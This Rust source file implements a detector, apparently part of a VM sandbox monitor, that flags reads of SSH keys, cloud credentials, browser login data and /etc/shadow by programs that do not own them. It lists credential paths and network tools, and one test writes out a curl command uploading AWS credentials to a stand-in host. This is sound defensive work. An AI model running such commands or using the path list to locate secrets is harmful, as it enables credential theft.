//! What strangers should not read, read by strangers.
//!
//! ```text
//!   read /home/a/.ssh/id_rsa by ssh      its own: nothing
//!                            by python   secret-read
//!   exec  tar c /home/a/.ssh             secret-named (at the basic level, where reads are not seen)
//! ```
//!
//! The log has reads only of what the built-in list names, at the full level (`docs/spec/events.md`, K2).

use super::Detector;
use super::scripts::looks_users_up;
use crate::found::{Found, command, text};
use crate::rules::{self, Rule};
use crate::world::{World, path_of};
use fvm_model::event::{Event, Kind, Phase};

/// Parts of paths, and the programs that they are for.
const OWNERS: &[(&str, &[&str])] = &[
    (
        "/.ssh/",
        &[
            "ssh*",
            "scp",
            "sftp",
            "git*",
            "rsync",
            "sshd",
            "mosh*",
            "ansible*",
            "gpg*",
            "autossh",
            "gnome-keyring*",
            "gcr*",
            "x2go*",
        ],
    ),
    (
        "/.gnupg",
        &["gpg*", "dirmngr", "scdaemon", "keyboxd", "gpgsm", "git", "pass", "apt-key", "kleopatra", "pinentry*"],
    ),
    ("/.pki", &["chromium*", "chrome*", "certutil", "modutil", "pk12util", "evolution*", "soffice*", "oosplash"]),
    ("/.aws", &["aws*", "terraform*", "sam", "cdk", "boto*", "packer"]),
    ("/.azure", &["az*", "terraform*"]),
    ("/.config/gcloud", &["gcloud*", "gsutil*", "bq*", "terraform*"]),
    ("/.kube", &["kubectl*", "helm*", "k9s", "minikube", "kind", "k3s*", "oc", "kustomize", "skaffold"]),
    ("/.docker", &["docker*", "podman*", "buildah", "skopeo", "crane", "nerdctl", "buildctl"]),
    ("/.config/containers", &["podman*", "buildah", "skopeo", "crun", "conmon"]),
    ("/.terraform", &["terraform*", "tofu"]),
    ("/.config/gh", &["gh", "git*"]),
    ("/.git-credentials", &["git*"]),
    ("/.config/git", &["git*"]),
    (
        "/.netrc",
        &[
            "git*", "curl", "wget*", "ftp*", "lftp", "pip*", "python*", "cargo", "go", "npm*", "node*", "heroku",
            "tnftp",
        ],
    ),
    ("/.npmrc", &["npm*", "npx*", "yarn*", "pnpm*", "node", "corepack", "bun"]),
    ("/.yarnrc", &["yarn*", "pnpm*", "node", "corepack"]),
    ("/.pypirc", &["twine", "pip*", "flit*", "hatch*", "poetry*", "uv"]),
    ("/.config/pypoetry", &["poetry*"]),
    ("/.cargo/", &["cargo*", "rustup*"]),
    ("/.gem", &["gem*", "bundle*", "ruby*"]),
    ("/.m2", &["mvn*", "java*", "gradle*"]),
    ("/.gradle", &["gradle*", "java*"]),
    ("/.composer", &["composer*", "php*"]),
    ("/.nuget", &["dotnet*", "nuget*"]),
    ("/.pgpass", &["psql", "pg_*", "pgadmin*"]),
    ("/.my.cnf", &["mysql*", "mariadb*"]),
    ("/.mylogin.cnf", &["mysql*", "mariadb*"]),
    ("/.vnc", &["vnc*", "Xvnc*", "x11vnc"]),
    ("/.password-store", &["pass", "gpg*", "git*", "gopass", "browserpass*", "tree", "bash"]),
    ("/.local/share/keyrings", &["gnome-keyring*", "seahorse*"]),
    ("/.local/share/kwalletd", &["kwallet*"]),
    ("/.huggingface", &["huggingface*"]),
    ("/.claude", &["claude*", "node*"]),
    ("/.codex", &["codex*", "node*"]),
    ("/.gemini", &["gemini*", "node*"]),
    (
        "/.mozilla",
        &["firefox*", "thunderbird*", "soffice*", "oosplash", "geckodriver", "crashreporter", "plugin-container"],
    ),
    ("/.cache/mozilla", &["firefox*", "thunderbird*"]),
    ("/.thunderbird", &["thunderbird*"]),
    ("/chromium", &["chromium*", "chrome*"]),
    ("/google-chrome", &["chrome*", "google-chrome*", "chromium*"]),
    ("/BraveSoftware", &["brave*"]),
    ("/microsoft-edge", &["msedge*", "microsoft-edge*"]),
    ("/vivaldi", &["vivaldi*"]),
    ("/opera", &["opera*"]),
    (
        "/etc/ssl/private",
        &[
            "nginx",
            "apache2",
            "httpd",
            "dovecot",
            "postfix*",
            "exim*",
            "openssl",
            "postgres",
            "haproxy",
            "ssl-cert*",
            "make-ssl-cert",
            "caddy",
        ],
    ),
    ("/etc/letsencrypt", &["certbot*", "nginx", "apache2", "httpd", "caddy", "haproxy", "dovecot"]),
    ("/etc/ssh/", &["sshd*", "ssh-keygen", "ssh-keysign"]),
    ("/etc/NetworkManager", &["NetworkManager", "nmcli"]),
    ("/etc/wireguard", &["wg", "wg-quick"]),
    ("/etc/openvpn", &["openvpn"]),
];

/// Who checks or changes passwords.
const LOGINS: &[&str] = &[
    "su",
    "sudo",
    "sudoedit",
    "login",
    "passwd",
    "unix_chkpwd",
    "unix_update",
    "sshd*",
    "useradd",
    "usermod",
    "userdel",
    "chage",
    "chpasswd",
    "newusers",
    "pwck",
    "grpck",
    "pwconv",
    "grpconv",
    "groupadd",
    "groupmod",
    "groupdel",
    "gpasswd",
    "newgrp",
    "sg",
    "vipw",
    "vigr",
    "systemd*",
    "adduser",
    "deluser",
    "chfn",
    "chsh",
    "runuser",
    "polkit*",
    "pkexec",
    "cron",
    "crond",
    "atd",
    "at",
    "gdm*",
    "lightdm",
    "sddm",
    "vlock",
    "expiry",
    "dpkg",
    "update-passwd",
    "shadowconfig",
    "doas",
    "getent",
    "dpkg-preconfigure",
    "dpkg-reconfigure",
    "debconf*",
    "sulogin",
    "agetty",
    "accounts-daemon",
];

const BROWSERS: &[&str] = &[
    "/.mozilla",
    "/.cache/mozilla",
    "/chromium",
    "/google-chrome",
    "/BraveSoftware",
    "/microsoft-edge",
    "/vivaldi",
    "/opera",
    "/.thunderbird",
];

fn contains(path: &[u8], part: &str) -> bool {
    path.windows(part.len()).any(|window| window == part.as_bytes())
}

/// Which rule a secret falls under.
fn rule_of(path: &[u8]) -> &'static Rule {
    if path.starts_with(b"/etc/shadow") || path.starts_with(b"/etc/gshadow") {
        &rules::SHADOW_READ
    } else if BROWSERS.iter().any(|part| contains(path, part)) {
        &rules::BROWSER_DATA
    } else {
        &rules::SECRET_READ
    }
}

/// What is no secret, though it lies among them.
fn is_harmless(path: &[u8]) -> bool {
    [&b"/known_hosts"[..], b"/.ssh/config", b".pub", b"/profiles.ini", b"/installs.ini", b"/.docker/config.json.lock"]
        .iter()
        .any(|end| path.ends_with(end))
}

/// Looks at secrets.
#[derive(Debug, Default)]
pub struct Secrets;

impl Secrets {
    fn read(event: &Event, world: &World, found: &mut Found) {
        let Some(path) = path_of(event, event.args.path.as_ref()) else { return };
        let key = event.process();
        // What the VM made itself is no secret of yours.
        if world.made(path).is_some() || is_harmless(path) {
            return;
        }
        let rule = rule_of(path);
        let is_allowed = if std::ptr::eq(rule, &raw const rules::SHADOW_READ) {
            world.is_one_of(key, LOGINS) || looks_users_up(world, key)
        } else {
            OWNERS.iter().any(|(part, owners)| contains(path, part) && world.is_one_of(key, owners))
        };
        if !is_allowed {
            let what = if world.is_hidden(path) {
                format!("tried to read {}, which the policy hides", text(path))
            } else {
                format!("opened {} for reading", text(path))
            };
            found.event(rule, event, what, &[]);
        }
    }

    fn named(event: &Event, world: &World, found: &mut Found) {
        const READERS: &[&str] = &[
            "cat", "cp", "mv", "tar", "zip", "base64", "xxd", "od", "hexdump", "scp", "curl", "wget", "nc*", "ncat",
            "socat", "dd", "gzip", "openssl", "strings", "head", "tail", "less", "rsync", "7z", "xz", "bsdtar", "grep",
        ];
        let key = event.process();
        let Some(process) = world.process(key).filter(|_| world.is_one_of(key, READERS)) else { return };
        let secret = process.argv.iter().skip(1).find(|arg| {
            let at = arg.iter().position(|b| *b == b'/').map(|at| &arg[at..]);
            // A word of a file among the secrets; directories may be named for other reasons.
            at.is_some_and(|path| is_key_file(path) && !is_harmless(path) && world.made(path).is_none())
        });
        if secret.is_some() {
            found.event(&rules::SECRET_NAMED, event, format!("ran {}", command(&process.argv)), &[]);
        }
    }
}

fn is_key_file(path: &[u8]) -> bool {
    const FILES: &[&str] = &[
        "/.ssh/id_",
        "/.ssh/identity",
        "/.aws/credentials",
        "/.netrc",
        "/.git-credentials",
        "/.kube/config",
        "/.docker/config.json",
        "/.pgpass",
        "/etc/shadow",
        "/.gnupg/private-keys",
        "/.gnupg/secring",
        "/.config/gh/hosts.yml",
        "/.npmrc",
        "/.pypirc",
        "/.cargo/credentials",
        "/logins.json",
        "/key4.db",
        "/Login Data",
        "/wallet.dat",
        "/.password-store/",
        "/.vault-token",
        "/.azure/",
        "/.config/gcloud/",
    ];
    let is_dir =
        [&b"/.ssh"[..], b"/.ssh/", b"/.gnupg", b"/.gnupg/", b"/.aws", b"/.aws/"].iter().any(|end| path.ends_with(end));
    is_dir || FILES.iter().any(|part| contains(path, part))
}

impl Detector for Secrets {
    fn see(&mut self, event: &Event, world: &World, found: &mut Found) {
        match (event.kind, event.phase) {
            (Kind::Read, _) => Self::read(event, world, found),
            (Kind::Exec, Phase::Done) => Self::named(event, world, found),
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::detect::testing::Story;

    #[test]
    fn a_secret_is_its_programs_and_nobody_elses() {
        for (exe, path, id) in [
            ("/usr/bin/ssh", "/root/.ssh/id_rsa", None),
            ("/usr/bin/python3.11", "/root/.ssh/id_rsa", Some("secret-read")),
            ("/tmp/ssh", "/root/.ssh/id_rsa", Some("secret-read")),
            ("/usr/bin/python3.11", "/root/.ssh/known_hosts", None),
            ("/usr/bin/cat", "/home/a/.mozilla/firefox/x/logins.json", Some("browser-data")),
            ("/usr/sbin/unix_chkpwd", "/etc/shadow", None),
            ("/usr/bin/dash", "/etc/shadow", Some("shadow-read")),
            ("/usr/bin/git", "/home/a/.netrc", None),
        ] {
            let mut story = Story::new();
            story.run(10, exe, &["x"]);
            story.read(10, path);
            assert_eq!(story.ids(), id.into_iter().collect::<Vec<_>>(), "{exe} {path}");
        }
        let mut story = Story::new();
        story.run(10, "/usr/bin/ssh-keygen", &["ssh-keygen"]);
        story.write(10, "/root/.ssh/id_new");
        story.run(11, "/usr/bin/cat", &["cat"]);
        story.read(11, "/root/.ssh/id_new");
        assert_eq!(story.ids(), [""; 0]);
    }

    #[test]
    fn what_the_policy_hides_was_only_tried() {
        let patterns = ["~/.ssh", "/etc/sha*"].map(|text| text.parse().unwrap());
        let world = crate::world::World::new(&[]).hiding(&patterns);
        for (path, is_hidden) in [
            ("/root/.ssh/id_rsa", true),
            ("/home/a/.ssh", true),
            ("/etc/shadow", true),
            ("/srv/.ssh/id_rsa", false),
            ("/root/.sshx", false),
            ("/root", false),
        ] {
            assert_eq!(world.is_hidden(path.as_bytes()), is_hidden, "{path}");
        }
    }

    #[test]
    fn a_command_that_names_a_secret_is_found() {
        for (argv, id) in [
            (&["tar", "c", "/root/.ssh"][..], Some("secret-named")),
            (&["curl", "-F", "f=@/root/.aws/credentials", "http://x"], Some("secret-named")),
            (&["cat", "/root/.ssh/id_rsa.pub"], None),
            (&["cat", "/root/.sshx"], None),
        ] {
            let mut story = Story::new();
            story.run(10, &format!("/usr/bin/{}", argv[0]), argv);
            assert_eq!(story.ids(), id.into_iter().collect::<Vec<_>>(), "{argv:?}");
        }
    }
}
